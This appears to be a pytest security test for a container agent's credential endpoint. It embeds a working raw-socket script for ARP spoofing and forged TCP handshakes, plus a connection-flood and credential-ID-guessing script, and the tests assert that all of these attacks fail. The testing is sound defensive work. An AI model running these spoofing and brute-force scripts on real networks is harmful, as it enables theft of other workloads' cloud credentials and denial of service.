# SPDX-License-Identifier: Apache-2.0
# ctest-lock: containers
# ctest-cost: 45
"""A hostile container with the capabilities that every container has (NET_RAW among them) sends forged frames: it gets nobody else's
credentials, takes nobody's place, and does not reach what listens on the host's loopback device."""
import os
import re

import pytest

from support import run as r
from support.server import Everywhere
from support.tasks import TRUST, Tasks


# Runs in the container: `attack.py GATEWAY GATEWAY-MAC VICTIM VICTIM-MAC VICTIM-PATH LOOPBACK-PORT`. Prints one line an attempt.
ATTACK = r'''
import fcntl, socket, struct, sys, time
gateway, gateway_mac, victim, victim_mac, path, port = sys.argv[1:]
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
raw.bind(("eth0", 0))
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
own_mac = fcntl.ioctl(probe.fileno(), 0x8927, struct.pack("256s", b"eth0"))[18:24]
own = socket.inet_ntoa(fcntl.ioctl(probe.fileno(), 0x8915, struct.pack("256s", b"eth0"))[20:24])
mac = lambda text: bytes.fromhex(text.replace(":", ""))
ip = socket.inet_aton
victim_mac, gateway_mac = mac(victim_mac), mac(gateway_mac)

def total(data):
    s = sum(struct.unpack("!%dH" % (len(data + b"\0") // 2), (data + b"\0")[:(len(data) + 1) // 2 * 2]))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def arp(op, to_mac, sender_mac, sender, target_mac, target, frame_mac=None):
    raw.send(to_mac + (frame_mac or own_mac) + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, op)
             + sender_mac + ip(sender) + target_mac + ip(target))

def tcp(from_mac, source, target, sport, dport, seq, ack, flags, data=b""):
    head = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 64240, 0, 0)
    pseudo = ip(source) + ip(target) + struct.pack("!BBH", 0, 6, len(head) + len(data))
    head = head[:16] + struct.pack("!H", total(pseudo + head + data)) + head[18:]
    ipv4 = struct.pack("!BBHHHBBH", 0x45, 0, 40 + len(data), 7, 0, 64, 6, 0) + ip(source) + ip(target)
    ipv4 = ipv4[:10] + struct.pack("!H", total(ipv4)) + ipv4[12:]
    raw.send(gateway_mac + from_mac + b"\x08\x00" + ipv4 + head + data)

def handshake(what, from_mac, source, target, dport, lies=()):
    sport = 20000 + int(time.time() * 1000) % 20000
    raw.settimeout(0.2)
    answered, began = None, time.time()
    while answered is None and time.time() - began < 2:
        for lie in lies:
            lie()
        tcp(from_mac, source, target, sport, dport, 1000, 0, 2)
        until = time.time() + 0.3
        while answered is None and time.time() < until:
            try:
                f = raw.recv(2048)
            except socket.timeout:
                continue
            if f[12:14] == b"\x08\x00" and f[23] == 6 and f[30:34] == ip(source) and f[36:38] == struct.pack("!H", sport) and f[47] & 0x12 == 0x12:
                answered = struct.unpack("!I", f[38:42])[0]
    print(what, "answered" if answered is not None else "silence", flush=True)

broadcast, nothing = b"\xff" * 6, b"\0" * 6
handshake("own", own_mac, own, "169.254.170.2", 80)
handshake("address", own_mac, victim, "169.254.170.2", 80,
          [lambda: arp(2, gateway_mac, own_mac, victim, gateway_mac, gateway), lambda: arp(1, broadcast, own_mac, victim, nothing, gateway)])
handshake("hardware-address", victim_mac, victim, "169.254.170.2", 80,
          [lambda: arp(1, broadcast, victim_mac, victim, nothing, gateway, victim_mac)])
handshake("loopback", own_mac, own, "127.0.0.1", int(port))
raw.settimeout(0.1)
heard = 0
for _ in range(20):
    arp(2, victim_mac, own_mac, gateway, victim_mac, victim)
    arp(1, broadcast, own_mac, gateway, nothing, victim)
    try:
        f = raw.recv(2048)
        heard += f[12:14] == b"\x08\x00" and f[26:30] == ip(victim)
    except socket.timeout:
        pass
print("overheard", heard, flush=True)
'''


@pytest.fixture(scope="module")
def up():
    r.need_root()
    for program in ("runc", "conmon", "busybox", "iptables", "ip", "nsenter"):
        r.need_program(program)
    server = Everywhere("up")
    try:
        yield server.start()
    finally:
        server.close()


def python_mounts():
    paths = ["/usr"] + [p for p in ("/lib", "/lib64") if os.path.isdir(p)]
    return ([{"name": "v%d" % i, "host": {"sourcePath": p}} for i, p in enumerate(paths)],
            [{"sourceVolume": "v%d" % i, "containerPath": p, "readOnly": True} for i, p in enumerate(paths)])


def inside(pid, *argv):
    return r.run(["nsenter", "-t", str(pid), "-n"] + list(argv)).stdout


FETCH = ("printf 'GET %s HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' $AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 169.254.170.2 80 | "
         "grep -q AccessKeyId && echo good || echo bad")


@pytest.mark.parametrize("mode", ["bridge", "awsvpc"])
def test_forged_frames_lead_nowhere(up, mode):
    tasks = Tasks(up) if not hasattr(up, "tasks") else up.tasks
    up.tasks = tasks
    iam = up.boto("iam")
    if mode == "bridge":
        iam.create_role(RoleName="victim", AssumeRolePolicyDocument=TRUST)
    more = {"networkConfiguration": {"awsvpcConfiguration": {"subnets": ["s"]}}} if mode == "awsvpc" else {}
    role = "arn:aws:iam::%s:role/victim" % r.ACCOUNT
    victim = tasks.run(tasks.define("victim-" + mode, {"command": "echo $AWS_CONTAINER_CREDENTIALS_RELATIVE_URI; while sleep 0.5; do %s; done" % FETCH},
                                    taskRoleArn=role, networkMode=mode), **more)
    tasks.wait_running(victim)
    lines = r.wait_for(lambda: "good" in tasks.logs(victim) and tasks.logs(victim).split(), 20, 0.3, "credentials of the victim")
    pid = tasks.pid(victim)
    address, mac = re.search(r"link/ether (\S+).*\n\s+inet ([\d.]+)/", inside(pid, "ip", "addr", "show", "eth0")).group(2, 1)
    gateway = re.search(r"default via ([\d.]+)", inside(pid, "ip", "route")).group(1)
    bridge_mac = re.search(r"link/ether (\S+)", r.run(["ip", "link", "show", up.network.bridge]).stdout).group(1)
    neighbour = inside(pid, "ip", "neigh", "show", gateway)
    assert bridge_mac in neighbour and "PERMANENT" in neighbour, neighbour
    assert "PERMANENT" in r.run(["ip", "neigh", "show", address, "dev", up.network.bridge]).stdout
    volumes, mounts = python_mounts()
    definition = tasks.define("attacker-" + mode, {"command": ["/usr/bin/python3", "-I", "-c", ATTACK, gateway, bridge_mac, address, mac, lines[0],
                                                               str(up.port)], "mountPoints": mounts, "memory": 256},
                              networkMode=mode, volumes=volumes)
    attacker = tasks.run(definition, **more)
    ended = tasks.wait_stopped(attacker, 60)
    said = tasks.logs(attacker)
    assert ended["containers"][0].get("exitCode") == 0, said
    assert said.split("\n")[:-1] == ["own answered", "address silence", "hardware-address silence", "loopback silence", "overheard 0"]
    # The victim never noticed.
    assert inside(pid, "ip", "neigh", "show", gateway) == neighbour
    before = tasks.logs(victim).count("good")
    r.wait_for(lambda: tasks.logs(victim).count("good") > before + 1, 10, 0.3, "credentials afterwards")
    assert "bad" not in tasks.logs(victim)
    tasks.stop(victim)
    assert not r.run(["ip", "neigh", "show", address, "dev", up.network.bridge]).stdout.strip(), "an address that nobody has"


# Holds as many connections as it gets, opens new ones without end, and guesses ids. `flood.py HOST PORT`.
FLOOD = r'''
import select, socket, sys, time
held, began, guesses, refused = [], time.time(), 0, 0
def dial():
    s = socket.socket()
    s.settimeout(2)
    s.connect((sys.argv[1], int(sys.argv[2])))
    return s
while time.time() - began < float(sys.argv[3]):
    try:
        held.append(dial())
        if len(held) > 300:
            held.pop(0).close()
        held[-1].send(b"GET /v2/cred")
        s = dial()
        s.send(b"GET /v2/credentials/00000000-0000-4000-8000-%012x HTTP/1.1\r\n\r\n" % guesses)
        guesses += 1
        refused += b" 429 " in s.recv(200)
        s.close()
    except OSError:
        pass
print("guesses", guesses, "refused", refused, "seconds", int(time.time() - began) + 1, flush=True)
'''


@pytest.mark.parametrize("mode", ["bridge", "host"])
def test_a_flood_keeps_nobody_from_credentials(up, mode):
    tasks = Tasks(up) if not hasattr(up, "tasks") else up.tasks
    up.tasks = tasks
    if "victim" not in [x["RoleName"] for x in up.boto("iam").list_roles()["Roles"]]:
        up.boto("iam").create_role(RoleName="victim", AssumeRolePolicyDocument=TRUST)
    role = "arn:aws:iam::%s:role/victim" % r.ACCOUNT
    # In the host's network an agent that is not the machine's only one answers at an address of the loopback device.
    fetch = ("host=${ECS_AGENT_URI#http://}; host=${host%%/*}; port=${host#*:}; [ $port != $host ] || port=80; echo $host $port; "
             "uri=${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI:-/${AWS_CONTAINER_CREDENTIALS_FULL_URI#http://*/}}; "
             "while sleep 0.3; do printf 'GET %s HTTP/1.0\\r\\n\\r\\n' $uri | nc ${host%%:*} $port | grep -q AccessKeyId && echo good || echo bad; done")
    victim = tasks.run(tasks.define("asks-" + mode, {"command": fetch}, taskRoleArn=role, networkMode=mode))
    tasks.wait_running(victim)
    host, port = r.wait_for(lambda: "good" in tasks.logs(victim) and tasks.logs(victim).split("\n")[0].split(), 20, 0.3, "credentials of the victim")
    volumes, mounts = python_mounts()
    definition = tasks.define("floods-" + mode, {"command": ["/usr/bin/python3", "-I", "-c", FLOOD, host.split(":")[0], port, "8"], "mountPoints": mounts,
                                                 "memory": 256}, networkMode=mode, volumes=volumes)
    before = tasks.logs(victim).count("good")
    flood = tasks.run(definition)
    ended = tasks.wait_stopped(flood, 60)
    said = tasks.logs(flood).split()
    assert ended["containers"][0].get("exitCode") == 0, said
    seen = tasks.logs(victim)
    good, bad = seen.count("good") - before, seen.count("bad")
    assert good > 3 and bad <= 1 + good // 10, (said, good, bad)
    if mode == "bridge":  # 60 at once, 40 a second
        guesses, refused, seconds = (int(n) for n in said[1::2])
        assert refused > 0 and guesses - refused <= 60 + 40 * seconds, said
    tasks.stop(victim)
